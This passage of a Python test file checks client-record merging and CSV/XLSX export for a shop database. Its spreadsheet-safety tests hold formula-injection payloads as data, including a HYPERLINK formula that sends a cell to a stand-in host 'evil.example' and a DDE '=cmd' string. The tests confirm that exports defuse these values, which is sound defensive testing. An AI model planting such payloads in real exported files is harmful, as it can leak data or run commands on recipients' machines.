                                                   Task.kind == TaskKind.MANUAL)))
        assert sorted(t.id for t in manual) == sorted(keep_extras["tasks"]
                                                      + other_extras["tasks"])
        assert s.scalar(select(func.count()).select_from(ComplaintCheck).where(
            ComplaintCheck.complaint_id == other_extras["complaint"])) == 8
        # relative dates still point at their (moved) relative
        for d in s.scalars(select(PersonalDate).where(PersonalDate.relative_id.is_not(None))):
            assert s.get(Relative, d.relative_id).client_id == d.client_id == keep
        # segment history: one row a quarter, the kept client's wins
        hist = [(h.quarter, h.segment) for h in s.scalars(
            select(SegmentHistory).where(SegmentHistory.client_id == keep)
            .order_by(SegmentHistory.quarter))]
        assert hist == [("2026Q1", Segment.A), ("2026Q2", Segment.A), ("2026Q3", Segment.B)]
        assert s.scalar(select(func.count()).select_from(SegmentHistory)) == 3

        c = s.get(Client, keep)
        assert c.name == "Anna Kowalska-Nowak"
        assert c.phone == "+48601234567"
        assert c.phone_digits == phone_digits("+48601234567")
        assert c.email == "anna@example.pl"
        assert c.external_ref == "K-100"
        assert c.notes == "Lubi kawę\nAlergia na orzechy"
        assert c.preferences == "herbata"
        assert tag_names(s, keep) == ["Herbata", "Kawa", "vip"]  # one tag whatever the case
        assert s.scalar(select(func.count()).select_from(client_tags)
                        .where(client_tags.c.client_id == keep)) == 3
        assert s.scalar(select(func.count()).select_from(client_tags)
                        .where(client_tags.c.client_id == other)) == 0
        assert s.get(Client, referred).referred_by_id == keep
        # the summary is right
        assert c.purchase_count == 4
        assert c.first_purchase_on == date(2025, 6, 1)
        assert c.last_purchase_on == date(2026, 10, 1)  # the membership sold
        # 100 + 60 - 10 + 99.90 for the membership; 2025-06-01 is too old
        assert c.value_12m == Decimal("249.90")
        # nothing lost
        assert purchase_totals(s) == totals_before
        # found by the removed client's card number and e-mail now
        for text in ("K-100", "anna@example.pl", "Alergia"):
            found = client_service.client_ids(s, client_service.ClientQuery(text=text), RULES, "PL")
            assert found == [keep], text
        export_table(s, "clients", tmp_path / "c.csv")
    rows = read_csv(tmp_path / "c.csv")
    assert [r[0] for r in rows[1:]].count(str(keep)) == 1
    assert str(other) not in [r[0] for r in rows[1:]]


@pytest.mark.parametrize("keep_first", [True, False], ids=["keep-older", "keep-newer"])
def test_merge_moves_the_card_number_without_a_unique_clash(db, keep_first):
    if keep_first:
        keep = save(db, client_service.ClientData(name="Stara Karta"))
        other = save(db, client_service.ClientData(name="Nowa Karta", external_ref="CARD-1",
                                       purchases=purchases((date(2026, 3, 3), "5.00"))))
    else:
        other = save(db, client_service.ClientData(name="Nowa Karta", external_ref="CARD-1",
                                       purchases=purchases((date(2026, 3, 3), "5.00"))))
        keep = save(db, client_service.ClientData(name="Stara Karta"))
    with db.session() as s:
        merge_clients(s, keep, other, TODAY)
    with db.session() as s:
        assert s.get(Client, other) is None
        c = s.get(Client, keep)
        assert c.external_ref == "CARD-1"
        assert c.purchase_count == 1
        assert client_service.client_ids(s, client_service.ClientQuery(text="CARD-1"), RULES, "PL") == [keep]


def test_merge_keeps_the_kept_clients_own_values(db):
    keep = save(db, client_service.ClientData(name="Keep", phone="601 111 111", email="keep@x.pl",
                                  external_ref="K-1", notes="same note"))
    other = save(db, client_service.ClientData(name="Other", phone="602 222 222", email="other@x.pl",
                                   external_ref="K-2", notes="same note"))
    with db.session() as s:
        merge_clients(s, keep, other, TODAY)
    with db.session() as s:
        c = s.get(Client, keep)
        assert (c.phone, c.email, c.external_ref, c.notes) == (
            "+48601111111", "keep@x.pl", "K-1", "same note")
        assert s.get(Client, other) is None


def test_merge_when_the_kept_client_was_referred_by_the_removed_one(db):
    other = save(db, client_service.ClientData(name="Poleca"))
    keep = save(db, client_service.ClientData(name="Polecona", referred_by_id=other))
    with db.session() as s:
        merge_clients(s, keep, other, TODAY)
    with db.session() as s:
        c = s.get(Client, keep)
        # a client cannot refer themselves (validate_client: referral.self)
        assert c.referred_by_id != keep
        assert c.referred_by_id is None


def test_merge_takes_the_removed_clients_referrer(db):
    referrer = save(db, client_service.ClientData(name="Polecający"))
    keep = save(db, client_service.ClientData(name="Keep"))
    other = save(db, client_service.ClientData(name="Other", referred_by_id=referrer))
    with db.session() as s:
        merge_clients(s, keep, other, TODAY)
    with db.session() as s:
        assert s.get(Client, keep).referred_by_id == referrer


def test_merge_into_itself_is_refused(db, make_client):
    cid = make_client("Sam", purchases=[(date(2026, 3, 3), "5.00")])
    with db.session() as s, pytest.raises(ValidationError) as err:
        merge_clients(s, cid, cid, TODAY)
    assert [e.code for e in err.value.errors] == ["merge.same"]
    with db.session() as s:
        assert s.get(Client, cid) is not None
        assert count_where(s, Purchase, cid) == 1


@pytest.mark.parametrize("missing", ["keep", "other"])
def test_merge_unknown_client(db, make_client, missing):
    cid = make_client("Jest", purchases=[(date(2026, 3, 3), "5.00")])
    keep, other = (999_999, cid) if missing == "keep" else (cid, 999_999)
    with db.session() as s, pytest.raises(NotFoundError) as err:
        merge_clients(s, keep, other, TODAY)
    assert err.value.code == "client.not_found"
    assert err.value.values["client_id"] == 999_999
    with db.session() as s:
        assert s.get(Client, cid) is not None
        assert count_where(s, Purchase, cid) == 1


# --------------------------------------------------------------------------- spreadsheet safety

DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)",
             "\tcmd", "\r=1+1", "=1+1"]


def dangerous_shop(db) -> int:
    """A client, a purchase and a call whose texts all look like formulas (as an import
    of someone else's file can bring them)."""
    cid = save(db, client_service.ClientData(
        name="Anna Nowak", phone="601 234 567", notes=DANGEROUS[0], preferences=DANGEROUS[3],
        source_channel=DANGEROUS[2], segment_override=Segment.B,
        segment_override_reason=DANGEROUS[1], tags=["=cmd|' /C calc'!A0"],
        purchases=purchases((date(2026, 3, 1), "-7.05", DANGEROUS[6], DANGEROUS[4], True),
                            (date(2026, 3, 2), "12.50", DANGEROUS[3]))))
    with db.session() as s:
        add_contact(s, cid, datetime(2026, 5, 3, 14, 30), note=DANGEROUS[1],
                    decline_reason=DANGEROUS[3])
    return cid


@pytest.mark.parametrize("what", ["clients", "purchases", "contacts"])
def test_xlsx_never_holds_a_formula_and_text_stays_text(db, tmp_path, what):
    dangerous_shop(db)
    path = tmp_path / f"{what}.xlsx"
    with db.session() as s:
        export_table(s, what, path)
    wb = load_workbook(path)
    cells = [c for row in wb.active.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if c.data_type == "s"}
    expected = {"clients": {DANGEROUS[0], DANGEROUS[3], DANGEROUS[2], DANGEROUS[1],
                            "=cmd|' /C calc'!A0", "+48601234567"},
                "purchases": {DANGEROUS[6], DANGEROUS[3]},
                "contacts": {DANGEROUS[1], DANGEROUS[3]}}[what]
    assert expected <= texts
    # numbers stay numbers: the refund is a negative number, not text
    if what == "purchases":
        amounts = [r[7] for r in wb.active.iter_rows(min_row=2, values_only=True)]
        assert amounts == [-7.05, 12.5]


@pytest.mark.parametrize("what", ["clients", "purchases", "contacts"])
def test_csv_defuses_formula_text_with_an_apostrophe(db, tmp_path, what):
    dangerous_shop(db)
    path = tmp_path / f"{what}.csv"
    with db.session() as s:
        export_table(s, what, path)
    rows = read_csv(path)
    cells = [v for r in rows[1:] for v in r]
    for v in cells:
        bare = v.removeprefix("'")
        if bare in DANGEROUS or bare.startswith(("+48", "=cmd")):
            assert v.startswith("'"), v
    assert not [v for v in cells if v.startswith(("=", "+", "@", "\t", "\r"))]
    if what == "purchases":
        assert [r[7] for r in rows[1:]] == ["-7.05", "12.50"]  # numbers unchanged
        assert [r[5] for r in rows[1:]] == ["'=1+1", "'@SUM(A1:A9)"]
    if what == "clients":
        r = dict(zip(CLIENT_KEYS, rows[1], strict=True))
        assert (r["phone"], r["notes"], r["source_channel"]) == (
            "'+48601234567", "'" + DANGEROUS[0], "'-2+3")


@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=30))
@hyp_settings(max_examples=200, deadline=None)
def test_csv_text_never_begins_a_formula_and_keeps_the_text(text):
    out = csv_text(text)
    assert not out.startswith(FORMULA_START)
    assert out == text or out == "'" + text


def test_labels_turn_codes_into_words_in_both_formats(db, tmp_path):
    dangerous_shop(db)
    words = {("kind", "person"): "Osoba", ("do_not_contact", False): "Nie",
             ("marketing_consent", False): "Nie", ("refund", True): "Tak",
             ("refund", False): "Nie", ("channel", "phone"): "Telefon",
             ("direction", "outbound"): "Wychodzący", ("purpose", "follow_up"): "Po zakupie",
             ("outcome", "reached"): "Rozmowa", ("tone", ""): "?"}

    def label(key, value):
        return words[key, value]

    with db.session() as s:
        export_table(s, "clients", tmp_path / "c.xlsx", labels=label)
        export_table(s, "purchases", tmp_path / "p.csv", labels=label)
        export_table(s, "contacts", tmp_path / "k.xlsx", labels=label)
    c = read_xlsx(tmp_path / "c.xlsx", "clients")[1]
    assert (c[2], c[7], c[8]) == ("Osoba", "Nie", "Nie")
    assert [r[8] for r in read_csv(tmp_path / "p.csv")[1:]] == ["Tak", "Nie"]
    k = read_xlsx(tmp_path / "k.xlsx", "contacts")[1]
    assert k[4:9] == ("Telefon", "Wychodzący", "Po zakupie", "Rozmowa", None)


def test_xlsx_has_a_frozen_bold_heading_and_sized_columns(db, tmp_path):
    dangerous_shop(db)
    with db.session() as s:
        export_table(s, "clients", tmp_path / "c.xlsx", {"notes": "Notatki"})
    ws = load_workbook(tmp_path / "c.xlsx").active
    assert ws.freeze_panes == "A2"
    assert all(c.font.b for c in ws[1])
    notes_col = ws.cell(1, CLIENT_KEYS.index("notes") + 1).column_letter
    assert ws.column_dimensions[notes_col].width == len(DANGEROUS[0]) + 2
    id_col = ws.cell(1, 1).column_letter
    assert ws.column_dimensions[id_col].width == 8  # narrow, but never too narrow
